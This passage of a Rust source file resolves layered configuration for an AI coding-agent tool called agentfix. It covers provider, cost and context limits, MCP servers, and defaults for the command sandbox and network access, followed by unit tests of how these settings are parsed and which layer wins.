    /// The longest wait for the answer to one query.
    pub query: Duration,
}

impl Default for DiagnosticsWait {
    fn default() -> Self {
        Self {
            settle: Duration::from_millis(DEFAULT_DIAGNOSTICS_SETTLE_MS),
            max: Duration::from_millis(DEFAULT_DIAGNOSTICS_TIMEOUT_MS),
            query: Duration::from_millis(DEFAULT_LANGUAGE_SERVER_TIMEOUT_MS),
        }
    }
}

/// The commands the model may run, and how.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct CommandsConfig {
    /// By name.
    pub entries: std::collections::BTreeMap<String, CommandConfig>,
    /// Run them without asking.
    pub auto_approve: bool,
    /// How they are confined (`commands.sandbox`).
    pub sandbox: CommandSandbox,
    /// Whether they may reach the network (`commands.network`).
    pub network: bool,
    /// More directories a sandboxed command may read (`commands.readPaths`).
    pub read_paths: Vec<std::path::PathBuf>,
    /// Resource limits of sandboxed commands (`commands.limits`).
    pub limits: CommandLimits,
    /// Credential variables they may inherit (`envAllow`).
    pub env_allow: Vec<String>,
}

/// What the tools may return.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ToolsConfig {
    /// Result size limits in bytes by tool name (`toolOutputLimits`).
    pub output_limits: std::collections::BTreeMap<String, usize>,
}

/// Default `mcpServers.<name>.timeoutSecs`.
pub const DEFAULT_MCP_TIMEOUT_SECS: u64 = 60;

/// One stdio MCP server, resolved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct McpServerConfig {
    pub name: String,
    pub command: String,
    pub args: Vec<String>,
    pub env: std::collections::BTreeMap<String, String>,
    /// Its tools that run without asking.
    pub auto_approve: Vec<String>,
    /// For one call, and for the start with the tool list.
    pub timeout: Duration,
}

/// The MCP servers (`mcpServers`, never from agentfix.toml).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct McpConfig {
    pub servers: Vec<McpServerConfig>,
    /// Entries without a `command` (not stdio servers), skipped.
    pub skipped: Vec<String>,
    /// Variables the servers get beyond the allow list (`envAllow`).
    pub env_allow: Vec<String>,
}

/// What tokens cost.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct PricingConfig {
    /// The user's prices by model id prefix, over the built-in ones.
    pub prices: std::collections::BTreeMap<String, crate::pricing::Price>,
}

/// Where run transcripts go.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TranscriptsConfig {
    /// `None` when transcripts are off.
    pub dir: Option<PathBuf>,
}

impl Config {
    /// Resolves the layers: `file` (agentfix.toml) < environment (`env`
    /// looks a variable up) < `editor`, one section at a time.
    pub fn resolve(
        file: &Settings,
        editor: &Settings,
        env: &dyn Fn(&str) -> Option<String>,
    ) -> Result<Config, ConfigError> {
        let mut l = Layers { file, editor, env, sources: Vec::new() };
        let provider = l.provider()?;
        let (limits, partial_edits) = l.limits()?;
        let transcripts = l.transcripts();
        let pricing = l.pricing();
        let limits = Limits {
            max_cost: l.max_cost(&provider.model, &pricing)?,
            // Never above the model's window, when it is known.
            context_budget: crate::pricing::context_window(&provider.model)
                .map_or(limits.context_budget, |window| limits.context_budget.min(window)),
            ..limits
        };
        let tools = l.tools();
        let downstream = l.downstream()?;
        let mut commands = l.commands()?;
        let exclude = l.exclude();
        let project_instructions = l.project_instructions();
        let env_allow = l.env_allow();
        commands.env_allow = env_allow.clone();
        let mcp = McpConfig { env_allow: env_allow.clone(), ..l.mcp()? };
        let downstream = DownstreamConfig { env_allow, ..downstream };
        Ok(Config {
            provider,
            limits,
            partial_edits,
            downstream,
            commands,
            transcripts,
            pricing,
            tools,
            mcp,
            project_instructions,
            exclude,
            sources: l.sources,
        })
    }

    /// Resolves from `root`'s agentfix.toml, the process environment and
    /// the editor settings.
    pub fn load(root: Option<&Path>, editor: &Settings) -> Result<Config, ConfigError> {
        let file = match root {
            Some(r) => Settings::load_file(r)?.unwrap_or_default(),
            None => Settings::default(),
        };
        Self::resolve(&file, editor, &|k| std::env::var(k).ok())
    }

    /// The price of the configured model, if known.
    pub fn price(&self) -> Option<crate::pricing::Price> {
        crate::pricing::price_of(&self.provider.model, &self.pricing.prices)
    }

    /// Scrubs this configuration's API key (and credential shapes) from text.
    pub fn key_redactor(&self) -> crate::secrets::Redactor {
        crate::secrets::Redactor::new(self.provider.api_key.iter().map(|k| k.expose().to_string()))
    }

    pub fn source(&self, name: &str) -> Source {
        self.sources.iter().find(|(n, _)| *n == name).map_or(Source::Default, |(_, s)| *s)
    }
}

/// The layers one setting is taken from, and where each setting came from.
struct Layers<'a> {
    file: &'a Settings,
    editor: &'a Settings,
    env: &'a dyn Fn(&str) -> Option<String>,
    sources: Vec<(&'static str, Source)>,
}

/// One setting through the layers (editor > environment > file > default),
/// recording its source. The environment and the default are evaluated only
/// when no higher layer sets it, so a bad variable under an editor setting
/// is no error.
macro_rules! pick {
    ($l:ident, $name:literal, $field:ident, $env:expr, $default:expr) => {{
        let (v, src) = if let Some(v) = $l.editor.$field.clone() {
            (v, Source::Editor)
        } else if let Some(v) = $env {
            (v, Source::Env)
        } else if let Some(v) = $l.file.$field.clone() {
            (v, Source::File)
        } else {
            ($default, Source::Default)
        };
        $l.sources.push(($name, src));
        v
    }};
}

impl Layers<'_> {
    /// A variable of the environment; empty counts as unset.
    fn env(&self, var: &str) -> Option<String> {
        (self.env)(var).filter(|v| !v.trim().is_empty())
    }

    /// A numeric variable of the environment.
    fn num(&self, var: &str) -> Result<Option<u64>, ConfigError> {
        self.env(var)
            .map(|v| v.trim().parse::<u64>().map_err(|_| ConfigError::Invalid(format!("{var}=`{v}` is not a number"))))
            .transpose()
    }

    /// A flag of the environment: anything but `0` and `false` is on.
    fn flag(&self, var: &str) -> Option<bool> {
        self.env(var).map(|v| v != "0" && v != "false")
    }

    fn provider(&mut self) -> Result<ProviderConfig, ConfigError> {
        let provider_env = match self.env("AGENTFIX_PROVIDER") {
            None => None,
            Some(name) => {
                Some(serde_json::from_value::<ProviderKind>(Value::String(name.trim().to_ascii_lowercase())).map_err(
                    |_| {
                        ConfigError::Invalid(format!(
                            "AGENTFIX_PROVIDER=`{name}` is not a provider (known: anthropic, openai, openai-compatible)"
                        ))
                    },
                )?)
            }
        };
        let l = self;
        let kind = pick!(l, "provider", provider, provider_env, ProviderKind::Anthropic);
        let model = pick!(l, "model", model, l.env("AGENTFIX_MODEL"), kind.default_model().to_string());
        let base_url = l.base_url(kind)?;
        let max_retries = pick!(
            l,
            "maxRetries",
            max_retries,
            l.num("AGENTFIX_MAX_RETRIES")?.map(|n| n.min(10) as u32),
            DEFAULT_MAX_RETRIES
        );
        let connect =
            pick!(l, "connectTimeoutSecs", connect_timeout_secs, None::<u64>, DEFAULT_CONNECT_TIMEOUT_SECS).max(1);
        let idle = pick!(l, "idleTimeoutSecs", idle_timeout_secs, None::<u64>, DEFAULT_IDLE_TIMEOUT_SECS).max(1);
        let count_tokens = pick!(l, "countTokens", count_tokens, None::<bool>, DEFAULT_COUNT_TOKENS);
        let effort = l.effort()?;
        Ok(ProviderConfig {
            kind,
            model,
            base_url,
            api_key: l.env(kind.key_var()).map(Secret::new),
            max_retries,
            connect_timeout: Duration::from_secs(connect),
            idle_timeout: Duration::from_secs(idle),
            count_tokens,
            effort,
        })
    }

    /// `effort`: unset unless a layer sets it (`AGENTFIX_EFFORT` in the
    /// environment).
    fn effort(&mut self) -> Result<Option<Effort>, ConfigError> {
        let env = match self.env("AGENTFIX_EFFORT") {
            None => None,
            Some(v) => {
                Some(serde_json::from_value::<Effort>(Value::String(v.trim().to_ascii_lowercase())).map_err(|_| {
                    ConfigError::Invalid(format!("AGENTFIX_EFFORT=`{v}` is not an effort (known: low, medium, high)"))
                })?)
            }
        };
        let (effort, source) = match (self.editor.effort, env, self.file.effort) {
            (Some(e), _, _) => (e, Source::Editor),
            (None, Some(e), _) => (e, Source::Env),
            (None, None, Some(e)) => (e, Source::File),
            (None, None, None) => return Ok(None),
        };
        self.sources.push(("effort", source));
        Ok(Some(effort))
    }

    /// `baseUrl`: never from agentfix.toml (a cloned repository must not
    /// send the key to a server of its choosing).
    fn base_url(&mut self, kind: ProviderKind) -> Result<String, ConfigError> {
        let (url, source) = match (&self.editor.base_url, self.env(kind.base_url_var()), kind.default_base_url()) {
            (Some(u), _, _) => (u.clone(), Source::Editor),
            (None, Some(u), _) => (u, Source::Env),
            (None, None, Some(d)) => (d.to_string(), Source::Default),
            (None, None, None) => {
                return Err(ConfigError::Invalid(format!(
                    "the {} provider needs a baseUrl (for Ollama: http://localhost:11434/v1); set `baseUrl` in the editor settings or {}",
                    kind.name(),
                    kind.base_url_var()
                )));
            }
        };
        self.sources.push(("baseUrl", source));
        Ok(url)
    }

    fn limits(&mut self) -> Result<(Limits, PartialEdits), ConfigError> {
        let l = self;
        let max_turns = pick!(
            l,
            "maxTurns",
            max_turns,
            l.num("AGENTFIX_MAX_TURNS")?.map(|n| n.min(u32::MAX as u64) as u32),
            DEFAULT_MAX_TURNS
        );
        if max_turns == 0 {
            return Err(ConfigError::Invalid("maxTurns must be at least 1".into()));
        }
        let max_tokens = pick!(l, "maxTokens", max_tokens, l.num("AGENTFIX_MAX_TOKENS")?, DEFAULT_MAX_TOKENS);
        let max_output_tokens =
            pick!(l, "maxOutputTokens", max_output_tokens, None::<u32>, DEFAULT_MAX_OUTPUT_TOKENS).max(1);
        let context_budget =
            pick!(l, "contextBudget", context_budget, l.num("AGENTFIX_CONTEXT_BUDGET")?, DEFAULT_CONTEXT_BUDGET).max(1);
        let timeout =
            pick!(l, "timeoutSecs", timeout_secs, l.num("AGENTFIX_TIMEOUT_SECS")?, DEFAULT_TIMEOUT_SECS).max(1);
        let partial_edits = pick!(l, "partialEdits", partial_edits, None::<PartialEdits>, PartialEdits::Offer);
        let context_editing =
            pick!(l, "contextEditing", context_editing, None::<ContextEditing>, ContextEditing::Economy);
        let limits = Limits {
            max_turns,
            max_tokens,
            max_output_tokens,
            context_budget,
            context_editing,
            timeout: Duration::from_secs(timeout),
            max_cost: None,
        };
        Ok((limits, partial_edits))
    }

    /// `maxCostUsd`, at the price of `model`: an error when the price is
    /// unknown (the budget could not be kept) or the amount is not a
    /// positive number.
    fn max_cost(&mut self, model: &str, pricing: &PricingConfig) -> Result<Option<CostLimit>, ConfigError> {
        let env = match self.env("AGENTFIX_MAX_COST_USD") {
            None => None,
            Some(v) => Some(v.trim().parse::<f64>().map_err(|_| {
                ConfigError::Invalid(format!("AGENTFIX_MAX_COST_USD=`{v}` is not a number of dollars"))
            })?),
        };
        let (usd, source) = match (self.editor.max_cost_usd, env, self.file.max_cost_usd) {
            (Some(v), _, _) => (v, Source::Editor),
            (None, Some(v), _) => (v, Source::Env),
            (None, None, Some(v)) => (v, Source::File),
            (None, None, None) => return Ok(None),
        };
        self.sources.push(("maxCostUsd", source));
        if !(usd.is_finite() && usd > 0.0) {
            return Err(ConfigError::Invalid(format!("maxCostUsd must be a positive number of dollars, not {usd}")));
        }
        let price = crate::pricing::price_of(model, &pricing.prices).ok_or_else(|| {
            ConfigError::Invalid(format!(
                "maxCostUsd needs the price of the model `{model}`, which agentfix does not know: add it to `prices`"
            ))
        })?;
        Ok(Some(CostLimit { usd, price }))
    }

    fn transcripts(&mut self) -> TranscriptsConfig {
        let l = self;
        let on = pick!(l, "transcripts", transcripts, l.flag("AGENTFIX_TRANSCRIPTS"), true);
        let dir = pick!(
            l,
            "transcriptDir",
            transcript_dir,
            l.env("AGENTFIX_TRANSCRIPT_DIR").map(PathBuf::from),
            dirs::cache_dir().unwrap_or_else(std::env::temp_dir).join("agentfix").join("transcripts")
        );
        TranscriptsConfig { dir: on.then_some(dir) }
    }

    /// The language servers and their waits (`env_allow` is filled in by
    /// the caller, shared with the commands).
    fn downstream(&mut self) -> Result<DownstreamConfig, ConfigError> {
        let env_servers = match self.env("AGENTFIX_LANGUAGE_SERVERS") {
            None => None,
            Some(json) => {
                Some(serde_json::from_str::<std::collections::BTreeMap<String, ServerConfig>>(&json).map_err(|e| {
                    ConfigError::Invalid(format!(
                        "AGENTFIX_LANGUAGE_SERVERS is not a JSON object of language servers: {e}"
                    ))
                })?)
            }
        };
        let l = self;
        let servers =
            pick!(l, "languageServers", language_servers, env_servers, Default::default()).into_iter().collect();
        let defaults = pick!(
            l,
            "defaultLanguageServers",
            default_language_servers,
            l.flag("AGENTFIX_DEFAULT_LANGUAGE_SERVERS"),
            true
        );
        let query = pick!(
            l,
            "languageServerTimeoutMs",
            language_server_timeout_ms,
            l.num("AGENTFIX_LANGUAGE_SERVER_TIMEOUT_MS")?,
            DEFAULT_LANGUAGE_SERVER_TIMEOUT_MS
        )
        .max(1);
        let settle = pick!(l, "diagnosticsSettleMs", diagnostics_settle_ms, None::<u64>, DEFAULT_DIAGNOSTICS_SETTLE_MS);
        let max = pick!(l, "diagnosticsTimeoutMs", diagnostics_timeout_ms, None::<u64>, DEFAULT_DIAGNOSTICS_TIMEOUT_MS);
        let wait = DiagnosticsWait {
            settle: Duration::from_millis(settle),
            max: Duration::from_millis(max.max(settle)),
            query: Duration::from_millis(query),
        };
        Ok(DownstreamConfig { servers, defaults, wait, env_allow: Vec::new() })
    }

    fn pricing(&mut self) -> PricingConfig {
        let l = self;
        PricingConfig { prices: pick!(l, "prices", prices, None, Default::default()) }
    }

    fn tools(&mut self) -> ToolsConfig {
        let l = self;
        ToolsConfig { output_limits: pick!(l, "toolOutputLimits", tool_output_limits, None, Default::default()) }
    }

    /// `mcpServers`: the editor settings, else `AGENTFIX_MCP_SERVERS` (JSON);
    /// never agentfix.toml (which refuses it).
    fn mcp(&mut self) -> Result<McpConfig, ConfigError> {
        let (entries, source) = if let Some(e) = self.editor.mcp_servers.clone() {
            (e, Source::Editor)
        } else if let Some(v) = self.env("AGENTFIX_MCP_SERVERS") {
            let e = serde_json::from_str(&v)
                .map_err(|e| ConfigError::Invalid(format!("AGENTFIX_MCP_SERVERS is not valid mcpServers JSON: {e}")))?;
            (e, Source::Env)
        } else {
            (Default::default(), Source::Default)
        };
        self.sources.push(("mcpServers", source));
        let mut mcp = McpConfig::default();
        for (name, s) in entries {
            match s.command.filter(|c| !c.trim().is_empty()) {
                Some(command) => mcp.servers.push(McpServerConfig {
                    name,
                    command,
                    args: s.args,
                    env: s.env,
                    auto_approve: s.auto_approve,
                    timeout: Duration::from_secs(s.timeout_secs.unwrap_or(DEFAULT_MCP_TIMEOUT_SECS).max(1)),
                }),
                None => mcp.skipped.push(name),
            }
        }
        Ok(mcp)
    }

    /// `projectInstructions`: the repository's own agentfix.toml may set it,
    /// since the instructions are the repository's to give or withhold.
    fn project_instructions(&mut self) -> bool {
        let l = self;
        pick!(
            l,
            "projectInstructions",
            project_instructions,
            l.flag("AGENTFIX_PROJECT_INSTRUCTIONS"),
            DEFAULT_PROJECT_INSTRUCTIONS
        )
    }

    fn commands(&mut self) -> Result<CommandsConfig, ConfigError> {
        let l = self;
        let entries = pick!(
            l,
            "commands",
            commands,
            None::<std::collections::BTreeMap<String, CommandEntry>>,
            Default::default()
        );
        resolve_commands(entries)
    }

    /// Protected patterns add up over the layers; none removes a default.
    fn exclude(&mut self) -> Vec<String> {
        let (file, editor) = (&self.file.exclude, &self.editor.exclude);
        let exclude = file
            .iter()
            .chain(editor.iter())
            .flatten()
            .map(|p| p.trim().to_string())
            .filter(|p| !p.is_empty())
            .collect();
        let source = match (file, editor) {
            (_, Some(_)) => Source::Editor,
            (Some(_), None) => Source::File,
            _ => Source::Default,
        };
        self.sources.push(("exclude", source));
        exclude
    }

    fn env_allow(&mut self) -> Vec<String> {
        let l = self;
        pick!(
            l,
            "envAllow",
            env_allow,
            l.env("AGENTFIX_ENV_ALLOW").map(|v| v
                .split(',')
                .map(|s| s.trim().to_string())
                .filter(|s| !s.is_empty())
                .collect()),
            Vec::new()
        )
    }
}

/// Splits the `commands` setting into commands and the `autoApprove`,
/// `sandbox` and `network` keys.
fn resolve_commands(entries: std::collections::BTreeMap<String, CommandEntry>) -> Result<CommandsConfig, ConfigError> {
    let mut commands = std::collections::BTreeMap::new();
    let mut auto = false;
    let mut sandbox = CommandSandbox::default();
    let mut network = false;
    let mut read_paths = Vec::new();
    let mut limits = CommandLimits::default();
    for (name, entry) in entries {
        let (argv, timeout) = match (name.as_str(), entry) {
            ("readPaths", CommandEntry::Argv(paths)) => {
                for p in paths {
                    let path = std::path::PathBuf::from(&p);
                    if !path.is_absolute() {
                        return Err(ConfigError::Invalid(format!("commands.readPaths: `{p}` is not an absolute path")));
                    }
                    read_paths.push(path);
                }
                continue;
            }
            ("readPaths", _) => {
                return Err(ConfigError::Invalid("commands.readPaths must be a list of absolute paths".into()));
            }
            ("limits", CommandEntry::Limits(l)) => {
                limits = l;
                continue;
            }
            ("limits", _) => {
                return Err(ConfigError::Invalid(
                    "commands.limits must be an object of addressSpaceMb, processes, fileSizeMb, cpuSecs, openFiles"
                        .into(),
                ));
            }
            ("autoApprove", CommandEntry::Flag(b)) => {
                auto = b;
                continue;
            }
            ("autoApprove", _) => {
                return Err(ConfigError::Invalid("commands.autoApprove must be true or false".into()));
            }
            ("network", CommandEntry::Flag(b)) => {
                network = b;
                continue;
            }
            ("network", _) => {
                return Err(ConfigError::Invalid("commands.network must be true or false".into()));
            }
            ("sandbox", CommandEntry::Word(w)) if w == "on" || w == "landlock" => {
                sandbox = CommandSandbox::On;
                continue;
            }
            ("sandbox", CommandEntry::Word(w)) if w == "off" => {
                sandbox = CommandSandbox::Off;
                continue;
            }
            ("sandbox", _) => {
                return Err(ConfigError::Invalid("commands.sandbox must be \"on\" or \"off\"".into()));
            }
            (_, CommandEntry::Flag(_) | CommandEntry::Word(_) | CommandEntry::Limits(_)) => {
                return Err(ConfigError::Invalid(format!(
                    "commands.{name} must be a command (a list of strings), not a flag or a word"
                )));
            }
            (_, CommandEntry::Argv(argv)) => (argv, None),
            (_, CommandEntry::Full { command, timeout_secs }) => (command, timeout_secs),
        };
        if argv.is_empty() || argv[0].trim().is_empty() {
            return Err(ConfigError::Invalid(format!("commands.{name} is empty")));
        }
        if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
            return Err(ConfigError::Invalid(format!(
                "commands: `{name}` is not a valid name (letters, digits, - and _)"
            )));
        }
        let timeout = Duration::from_secs(timeout.unwrap_or(DEFAULT_COMMAND_TIMEOUT_SECS).max(1));
        commands.insert(name, CommandConfig { argv, timeout });
    }
    Ok(CommandsConfig {
        entries: commands,
        auto_approve: auto,
        sandbox,
        network,
        read_paths,
        limits,
        env_allow: Vec::new(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn misspelt_keys_are_named_with_the_closest_setting_and_still_accepted() {
        let file = json!({"maxTurn": 5, "max_tokens": 9, "timeout": 3, "transcript": false, "zzz": 1, "model": "m"});
        let warnings = Settings::unknown_keys(&file, false);
        assert_eq!(
            warnings,
            vec![
                "unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored",
                "unknown key `max_tokens` (did you mean `maxTokens`?); it is ignored",
                "unknown key `timeout` (did you mean `timeoutSecs`?); it is ignored",
                "unknown key `transcript` (did you mean `transcripts`?); it is ignored",
                "unknown key `zzz` (no setting has a name like it: see `agentfix schema`); it is ignored",
            ]
        );
        // From an editor, keys like no setting are the editor's own.
        let editor =
            json!({"agentfix": {"serverPath": "/bin/agentfix", "models": [], "trace": {}, "partialEdit": "offer"}});
        assert_eq!(
            Settings::unknown_keys(&editor, true),
            vec!["unknown key `partialEdit` (did you mean `partialEdits`?); it is ignored"]
        );
        // Still accepted: a warning, not an error.
        assert_eq!(Settings::from_json(&editor).unwrap(), Settings::default());
        assert_eq!(Settings::from_toml("maxTurn = 5\nmaxTurns = 6\n").unwrap().max_turns, Some(6));
        assert!(Settings::unknown_keys(&json!({"maxTurns": 1, "commands": {}}), false).is_empty());
    }

    #[test]
    fn agentfix_toml_warnings_name_the_file() {
        let dir = tempfile::tempdir().unwrap();
        assert!(Settings::file_warnings(dir.path()).is_empty());
        std::fs::write(dir.path().join(FILE_NAME), "maxTurn = 5\n").unwrap();
        assert_eq!(
            Settings::file_warnings(dir.path()),
            vec!["agentfix.toml: unknown key `maxTurn` (did you mean `maxTurns`?); it is ignored"]
        );
    }

    #[test]
    fn names_are_the_settings_own_spelling() {
        for p in [PartialEdits::Offer, PartialEdits::Discard] {
            assert_eq!(serde_json::to_value(p).unwrap(), json!(p.name()));
        }
        for c in [ContextEditing::Economy, ContextEditing::Budget] {
            assert_eq!(serde_json::to_value(c).unwrap(), json!(c.name()));
        }
    }
    use serde_json::json;

    #[test]
    fn commands_parse_with_timeouts_and_auto_approve() {
        let editor = Settings::from_json(&json!({"commands": {"test": ["cargo", "test", "-q"], "lint": {"command": ["ruff", "check"], "timeoutSecs": 9}, "autoApprove": true}})).unwrap();
        let c = resolve(&Settings::default(), &editor, &[]).unwrap();
        assert_eq!(
            c.commands.entries["test"],
            CommandConfig { argv: vec!["cargo".into(), "test".into(), "-q".into()], timeout: Duration::from_secs(300) }
        );
        assert_eq!(c.commands.entries["lint"].timeout, Duration::from_secs(9));
        assert!(c.commands.auto_approve);
        let file = Settings::from_toml("[commands]\ntest = [\"pytest\"]\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        assert_eq!(c.commands.entries["test"].argv, ["pytest"]);
        assert!(!c.commands.auto_approve);
        assert!(
            Settings::from_toml("[commands]\nautoApprove = true\n")
                .unwrap_err()
                .to_string()
                .contains("commands.autoApprove")
        );
        let bad = Settings::from_json(&json!({"commands": {"test": []}})).unwrap();
        assert_eq!(resolve(&Settings::default(), &bad, &[]).unwrap_err().to_string(), "commands.test is empty");
        let bad = Settings::from_json(&json!({"commands": {"test": true}})).unwrap();
        assert!(resolve(&Settings::default(), &bad, &[]).is_err());
    }

    #[test]
    fn the_sandbox_is_on_and_offline_by_default_and_only_the_editor_changes_that() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.commands.sandbox, c.commands.network), (CommandSandbox::On, false));
        let editor =
            Settings::from_json(&json!({"commands": {"test": ["pytest"], "sandbox": "off", "network": true}})).unwrap();
        let c = resolve(&Settings::default(), &editor, &[]).unwrap();
        assert_eq!((c.commands.sandbox, c.commands.network), (CommandSandbox::Off, true));
        assert_eq!(c.commands.entries.keys().collect::<Vec<_>>(), ["test"]);
        let editor = Settings::from_json(&json!({"commands": {"sandbox": "landlock", "network": false}})).unwrap();
        let c = resolve(&Settings::default(), &editor, &[]).unwrap();
        assert_eq!((c.commands.sandbox, c.commands.network), (CommandSandbox::On, false));
        assert!(c.commands.entries.is_empty());
        // A repository cannot loosen the sandbox of its own commands.
        for text in [
            "[commands]\nsandbox = \"off\"\n",
            "[commands]\nsandbox = \"landlock\"\n",
            "[commands]\nsandbox = \"on\"\n",
            "[commands]\nnetwork = true\n",
            "[commands]\ntest = [\"pytest\"]\nnetwork = false\n",
        ] {
            let e = Settings::from_toml(text).unwrap_err().to_string();
            assert!(e.contains("may not set `commands."), "{text}: {e}");
            assert!(e.contains("sandbox") || e.contains("network"), "{text}: {e}");
        }
        // Wrong shapes are errors that name the key.
        for (value, key) in [
            (json!({"sandbox": "bubblewrap"}), "commands.sandbox"),
            (json!({"sandbox": true}), "commands.sandbox"),
            (json!({"network": "yes"}), "commands.network"),
            (json!({"network": ["curl"]}), "commands.network"),
            (json!({"test": "pytest"}), "commands.test"),
        ] {
            let editor = Settings::from_json(&json!({ "commands": value })).unwrap();
            let e = resolve(&Settings::default(), &editor, &[]).unwrap_err().to_string();
            assert!(e.contains(key), "{value}: {e}");
        }
    }

    fn env_of(pairs: &'static [(&'static str, &'static str)]) -> impl Fn(&str) -> Option<String> {
        move |k| pairs.iter().find(|(n, _)| *n == k).map(|(_, v)| v.to_string())
    }

    fn resolve(
        file: &Settings,
        editor: &Settings,
        env: &'static [(&'static str, &'static str)],
    ) -> Result<Config, ConfigError> {
        Config::resolve(file, editor, &env_of(env))
    }

    #[test]
    fn defaults_apply_without_settings_or_env() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!(c.provider.kind, ProviderKind::Anthropic);
        assert_eq!(c.provider.model, DEFAULT_MODEL);
        assert_eq!(c.provider.base_url, "https://api.anthropic.com");
        assert_eq!((c.limits.max_turns, c.limits.timeout, c.provider.max_retries), (40, Duration::from_secs(300), 2));
        assert_eq!(c.partial_edits, PartialEdits::Offer);
        assert!(c.transcripts.dir.as_ref().unwrap().ends_with("agentfix/transcripts"));
        assert_eq!(c.provider.api_key, None);
        let missing = c.provider.require_api_key().unwrap_err().to_string();
        assert!(
            missing.starts_with(
                "ANTHROPIC_API_KEY is not set: agentfix needs an API key for the anthropic provider. Set ANTHROPIC_API_KEY in the environment the editor starts agentfix in (or in your shell for `agentfix fix`). Without a key: `agentfix demo`"
            ),
            "{missing}"
        );
    }

    #[test]
    fn max_cost_needs_a_known_price_and_layers() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.limits.max_cost, c.limits.context_editing), (None, ContextEditing::Economy));
        // At the built-in price of the default model.
        let file = Settings::from_toml("maxCostUsd = 0.5\ncontextEditing = \"budget\"\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        let cap = c.limits.max_cost.unwrap();
        assert_eq!((cap.usd, Some(cap.price), c.source("maxCostUsd")), (0.5, c.price(), Source::File));
        assert_eq!(c.limits.context_editing, ContextEditing::Budget);
        let c = resolve(&file, &Settings::default(), &[("AGENTFIX_MAX_COST_USD", "1.25")]).unwrap();
        assert_eq!((c.limits.max_cost.unwrap().usd, c.source("maxCostUsd")), (1.25, Source::Env));
        let e = resolve(&file, &Settings::default(), &[("AGENTFIX_MAX_COST_USD", "a lot")]).unwrap_err();
        assert_eq!(e.to_string(), "AGENTFIX_MAX_COST_USD=`a lot` is not a number of dollars");
        // A model without a price cannot keep a money budget: said, not ignored.
        let editor = Settings { model: Some("my-local-model".into()), max_cost_usd: Some(1.0), ..Settings::default() };
        let e = resolve(&Settings::default(), &editor, &[]).unwrap_err().to_string();
        assert!(
            e.contains("maxCostUsd needs the price of the model `my-local-model`") && e.contains("`prices`"),
            "{e}"
        );
        let editor = Settings::from_json(&json!({
            "model": "my-local-model", "maxCostUsd": 1.0, "prices": {"my-local": {"input": 1.0, "output": 2.0}}
        }))
        .unwrap();
        let c = resolve(&Settings::default(), &editor, &[]).unwrap();
        assert_eq!(c.limits.max_cost.unwrap().price.output, 2.0);
        let editor = Settings { max_cost_usd: Some(0.0), ..Settings::default() };
        let e = resolve(&Settings::default(), &editor, &[]).unwrap_err().to_string();
        assert!(e.contains("maxCostUsd must be a positive number"), "{e}");
    }

    #[test]
    fn count_tokens_is_off_by_default_and_layers() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.provider.count_tokens, c.source("countTokens")), (false, Source::Default));
        let file = Settings::from_toml("countTokens = true\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        assert_eq!((c.provider.count_tokens, c.source("countTokens")), (true, Source::File));
        let editor = Settings::from_json(&json!({"countTokens": false})).unwrap();
        let c = resolve(&file, &editor, &[]).unwrap();
        assert_eq!((c.provider.count_tokens, c.source("countTokens")), (false, Source::Editor));
    }

    #[test]
    fn project_instructions_are_on_by_default_and_every_layer_may_turn_them_off() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.project_instructions, c.source("projectInstructions")), (true, Source::Default));
        // The repository's own file may: they are its instructions.
        let file = Settings::from_toml("projectInstructions = false\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        assert_eq!((c.project_instructions, c.source("projectInstructions")), (false, Source::File));
        let c = resolve(&file, &Settings::default(), &[("AGENTFIX_PROJECT_INSTRUCTIONS", "1")]).unwrap();
        assert_eq!((c.project_instructions, c.source("projectInstructions")), (true, Source::Env));
        let c = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_PROJECT_INSTRUCTIONS", "0")]).unwrap();
        assert!(!c.project_instructions);
        let editor = Settings::from_json(&json!({"projectInstructions": false})).unwrap();
        let c = resolve(&Settings::default(), &editor, &[("AGENTFIX_PROJECT_INSTRUCTIONS", "1")]).unwrap();
        assert_eq!((c.project_instructions, c.source("projectInstructions")), (false, Source::Editor));
    }

    #[test]
    fn effort_is_unset_by_default_and_layers() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.provider.effort, c.source("effort")), (None, Source::Default));
        let file = Settings::from_toml("effort = \"low\"\n").unwrap();
        let c = resolve(&file, &Settings::default(), &[]).unwrap();
        assert_eq!((c.provider.effort, c.source("effort")), (Some(Effort::Low), Source::File));
        let c = resolve(&file, &Settings::default(), &[("AGENTFIX_EFFORT", " Medium ")]).unwrap();
        assert_eq!((c.provider.effort, c.source("effort")), (Some(Effort::Medium), Source::Env));
        let editor = Settings::from_json(&json!({"effort": "high"})).unwrap();
        let c = resolve(&file, &editor, &[("AGENTFIX_EFFORT", "medium")]).unwrap();
        assert_eq!((c.provider.effort, c.source("effort")), (Some(Effort::High), Source::Editor));
        assert_eq!(Effort::High.name(), "high");
        let e = resolve(&Settings::default(), &Settings::default(), &[("AGENTFIX_EFFORT", "max")]).unwrap_err();
        assert_eq!(e.to_string(), "AGENTFIX_EFFORT=`max` is not an effort (known: low, medium, high)");
        let e = Settings::from_json(&json!({"effort": "extreme"})).unwrap_err().to_string();
        assert!(e.starts_with("invalid agentfix settings: unknown variant `extreme`"), "{e}");
    }

    #[test]
    fn the_context_budget_defaults_and_layers() {
        let c = resolve(&Settings::default(), &Settings::default(), &[]).unwrap();
        assert_eq!((c.limits.context_budget, c.source("contextBudget")), (DEFAULT_CONTEXT_BUDGET, Source::Default));
